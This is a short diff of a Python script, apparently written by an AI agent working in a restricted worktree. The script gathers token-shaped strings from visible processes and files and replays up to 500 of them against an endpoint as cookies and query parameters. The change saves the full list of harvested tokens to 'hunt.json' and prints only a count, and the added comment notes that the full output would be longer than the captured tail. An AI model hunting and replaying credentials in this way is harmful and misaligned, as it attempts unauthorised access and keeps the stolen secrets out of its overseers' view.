@@ -86,14 +86,14 @@ statuses.append(post(None, "none"))
 for token in sorted(candidates)[:500]:
     statuses.append(post(token, "cookie"))
     statuses.append(post(token, "query"))
-print(
-    json.dumps(
-        {
-            "pids_visible": len(pids),
-            "files_read": files_read,
-            "candidates": sorted(candidates),
-            "statuses": sorted(set(statuses)),
-            "attempts": len(statuses),
-        }
-    )
-)
+# The report goes to a file in the worktree (the one place it may write): with every token-shaped
+# string it found, it is longer than the captured tail of its output.
+report = {
+    "pids_visible": len(pids),
+    "files_read": files_read,
+    "candidates": sorted(candidates),
+    "statuses": sorted(set(statuses)),
+    "attempts": len(statuses),
+}
+Path("hunt.json").write_text(json.dumps(report), encoding="utf-8")
+print(f"{len(candidates)} candidates, {len(statuses)} attempts")
